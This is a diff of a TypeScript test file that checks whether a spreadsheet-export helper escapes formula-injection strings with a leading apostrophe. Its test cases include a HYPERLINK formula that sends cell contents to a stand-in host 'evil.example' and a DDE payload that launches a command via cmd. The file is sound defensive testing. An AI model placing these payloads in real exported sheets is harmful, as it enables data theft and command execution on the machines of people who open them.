@@ -3,16 +3,8 @@ import fc from 'fast-check';
 import { guarded, sheetRow, sheetText, unguarded } from '../../nodes/VtuWallet/values/sheetText';
 
 test.each([
-	'=1+1',
-	'=HYPERLINK("https://evil.example?"&A1,"Receipt")',
-	"+cmd|' /C calc'!A0",
-	'-2+3+cmd()',
-	'@SUM(A1:A9)',
-	'\t=1+1',
-	'\r=1+1',
-	' =1+1',
-	'\n@x',
-	'\uff1d1+1',
+	...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Receipt")', "+cmd|' /C calc'!A0"],
+	...['-2+3+cmd()', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '\n@x', '\uff1d1+1'],
 	'-- sent by MTN',
 ])('a sheet shows %j as text, behind an apostrophe', (text) => {
 	expect(sheetText(text)).toBe(`'${text}`);
